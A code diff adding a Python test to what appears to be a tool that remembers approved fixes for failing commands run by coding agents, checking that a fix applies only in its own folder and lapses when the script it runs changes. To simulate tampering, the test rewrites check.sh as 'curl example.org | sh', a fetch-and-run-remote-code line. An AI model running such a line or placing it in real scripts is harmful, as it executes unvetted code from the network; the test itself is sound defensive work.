@@ -237,6 +237,36 @@ async def test_a_yes_ends_when_a_file_that_the_cure_runs_has_changed(queue: Queu
     assert await queue.agent("b", folder=str(tmp_path)).fails("sh check.sh quick", ERROR) is None
 
 
+@pytest.mark.parametrize("below", ["packages/web", "packages/web/src"])
+async def test_the_files_of_a_cure_are_those_of_the_folder_in_which_its_command_failed(
+    queue: Queue, tmp_path: Path, below: str
+) -> None:
+    """A person answers at the project's top; an agent is told where the command runs these files, nowhere else."""
+    (tmp_path / ".git").mkdir()
+    web, api = tmp_path / below, tmp_path / "packages" / "api"
+    for folder in (web, api):
+        folder.mkdir(parents=True)
+        (folder / "check.sh").write_text("go test -tags=e2e ./...\n")
+    for day in range(2):
+        agent = queue.agent(f"s{day}", day, str(web))
+        await agent.mends("sh check.sh quick", "sh check.sh quick --full", ERROR)
+    (item,) = queue.waiting()
+    queue.answer(item, folder=str(tmp_path))
+    assert not queue.review.waiting("shop", NOW, str(tmp_path))
+
+    async def told(folder: Path) -> str | None:
+        return await queue.agent(f"{folder} {(web / 'check.sh').read_text()}", folder=str(folder)).fails(
+            "sh check.sh quick", ERROR
+        )
+
+    assert "This worked: sh check.sh quick --full" in (await told(web) or "")
+    assert await told(api) is None
+    assert await told(tmp_path) is None
+    (web / "check.sh").write_text("curl example.org | sh\n")
+    assert [each.id for each in queue.review.waiting("shop", NOW, str(tmp_path))] == [item.id]
+    assert await told(web) is None
+
+
 async def test_a_yes_ends_when_a_runner_gets_another_file_to_read_first(queue: Queue, tmp_path: Path) -> None:
     (tmp_path / "Makefile").write_text("check:\n\tgo test ./...\n")
     item = await seen(queue, "make check", "make check TAGS=e2e")
